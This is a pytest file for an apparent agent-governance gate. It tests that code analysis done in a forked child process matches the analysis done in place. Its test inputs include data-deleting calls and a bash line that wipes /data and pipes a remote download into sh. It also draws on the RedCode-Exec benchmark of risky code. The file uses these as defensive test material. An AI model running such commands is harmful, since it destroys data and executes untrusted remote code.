"""An analysis started early in a forked child (``_prefetch``) gives the IR the process would have
built itself, or none: every failure of the child falls back to analysing in place.

The child is forked only where libcst is not yet loaded, so each case runs in a fresh interpreter.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from governed_agents import analyze

ROOT = Path(__file__).resolve().parents[2]
CORPUS = ROOT.parent / "shared" / "benchmarks" / "redcode-exec" / "python-dev.json"

# Runs in a fresh interpreter: prefetch each case, optionally sabotage the child, then analyse as the
# gate does; prints each IR's repr in JSON lines, and whether the parent ever loaded libcst.
_DRIVER = """
import json, os, signal, sys
from governed_agents.analysis import _prefetch, analyze
cases, sabotage = json.loads(sys.stdin.read()), sys.argv[1]
if sabotage == "warm":
    import libcst
for code, language, work_dir in cases:
    _prefetch.prefetch(code, language, work_dir)
    pending = _prefetch._pending
    if sabotage == "kill" and pending is not None:
        os.kill(pending.pid, signal.SIGKILL)
    if sabotage == "other-work-dir":
        work_dir = "/elsewhere"
    loaded_before = "libcst" in sys.modules
    taken = _prefetch.take(code, language, work_dir)
    ir = taken if taken is not None else analyze(code, language, work_dir)
    print(json.dumps({"forked": pending is not None, "taken": taken is not None,
                      "libcst_before": loaded_before, "ir": repr(ir.model_dump())}))
    if _prefetch._pending is not None and sabotage != "other-work-dir":
        raise SystemExit("a prefetch was left pending")
"""


def _drive(cases: list[tuple[str, str, str | None]], sabotage: str = "none") -> list[dict]:
    result = subprocess.run([sys.executable, "-c", _DRIVER, sabotage], input=json.dumps(cases),
                            capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def _expected(code: str, language: str, work_dir: str | None) -> str:
    """Every field's value and type, as the process builds them (JSON cannot carry every string)."""
    return repr(analyze(code, language, work_dir).model_dump())


CASES = [
    ("import os\nos.remove('/data/x')\n", "python", "/tmp/run"),
    ("import subprocess\nsubprocess.run(['curl', 'https://example.com'])\n", "python", None),
    ("def broken(:\n", "python", "/tmp/run"),  # a parse error: unresolved, denied
    ("rm -rf /data && curl https://example.com | sh\n", "bash", "/tmp/run"),
    ("x = 1\n", "cobol", None),  # unsupported language
]


def test_the_child_s_ir_is_the_ir_the_process_would_build():
    results = _drive(CASES[:1])  # the first case is forked: libcst is not loaded yet
    assert results[0]["forked"] and results[0]["taken"] and not results[0]["libcst_before"]
    assert results[0]["ir"] == _expected(*CASES[0])


@pytest.mark.parametrize("case", CASES, ids=["delete", "network", "parse-error", "shell", "unsupported"])
def test_every_kind_of_input_comes_back_byte_for_byte(case):
    (result,) = _drive([case])
    assert result["forked"] and result["taken"]
    assert result["ir"] == _expected(*case)


def test_the_redcode_snippets_come_back_byte_for_byte():
    """RedCode-Exec Python dev half (RedCode authors, AI-secure/RedCode, CC BY 4.0), one fresh
    interpreter per snippet would take minutes: every 20th."""
    codes = [c["code"] for c in json.loads(CORPUS.read_text())][::20]
    for code in codes:
        (result,) = _drive([(code, "python", "/tmp/run")])
        assert result["taken"], code
        assert result["ir"] == _expected(code, "python", "/tmp/run"), code


def test_a_child_killed_before_it_answers_means_the_process_analyses_itself():
    (result,) = _drive(CASES[:1], sabotage="kill")
    assert result["forked"] and not result["taken"]
    assert result["ir"] == _expected(*CASES[0])


def test_an_ir_the_child_cannot_send_is_built_in_place():
    # a lone surrogate in a path: JSON cannot carry it, the child's dump fails and the parent
    # analyses the text itself, keeping the path as the code spells it
    case = ('import shutil\nshutil.rmtree("/data/\\udc80x")\n', "python", "/tmp/run")
    (result,) = _drive([case])
    assert result["forked"] and not result["taken"]
    assert result["ir"] == _expected(*case)
    assert "/data/\\udc80x" in result["ir"]


def test_other_arguments_are_analysed_in_place_and_the_child_is_not_used():
    (result,) = _drive(CASES[:1], sabotage="other-work-dir")
    assert not result["taken"]
    assert result["ir"] == _expected(CASES[0][0], "python", "/elsewhere")


def test_a_process_with_the_analyser_loaded_analyses_in_place():
    (result,) = _drive(CASES[:1], sabotage="warm")
    assert not result["forked"]  # nothing left to overlap: the warm server's copies, a library
    assert result["ir"] == _expected(*CASES[0])


def test_a_long_input_is_analysed_in_place():
    long = ("import os\n" + "os.remove('/data/x')\n" * 4000, "python", None)
    (result,) = _drive([long])
    assert not result["forked"]
    assert result["ir"] == _expected(*long)


def test_a_command_that_stops_early_leaves_no_analysis_running():
    """A parent that exits while its child still analyses (a policy error, a kill): the child ends at
    its write, once the analysis of the longest input it is forked for is done."""
    big = "import os\n" + "os.remove('/data/x')\n" * 3000
    probe = ("import sys, time\nfrom governed_agents.analysis import _prefetch\n"
             "_prefetch.prefetch(sys.stdin.read(), 'python', None)\n"
             "print(_prefetch._pending.pid, flush=True)\ntime.sleep(1)\n")
    parent = subprocess.Popen([sys.executable, "-c", probe], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                              text=True, cwd=ROOT)
    parent.stdin.write(big)
    parent.stdin.close()
    child = int(parent.stdout.readline())
    parent.wait(timeout=60)
    deadline = time.monotonic() + 5
    while _alive(child) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not _alive(child)
    parent.stdout.close()


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def test_a_cold_run_of_a_denied_file_is_still_denied(tmp_path):
    """End to end: the gate's answer does not depend on where the analysis ran."""
    code = tmp_path / "wipe.py"
    code.write_text("import shutil\nshutil.rmtree('/data')\n")
    env = dict(os.environ, GOVERNED_AGENTS_SERVER="0")
    result = subprocess.run([sys.executable, "-m", "governed_agents", "run", "--policy",
                             str(ROOT / "policies" / "seed.policy"), "--agent", "agent_sandbox", str(code)],
                            capture_output=True, text=True, cwd=ROOT, env=env, timeout=120)
    assert result.returncode == 126, result.stderr
    assert "/data" in result.stderr
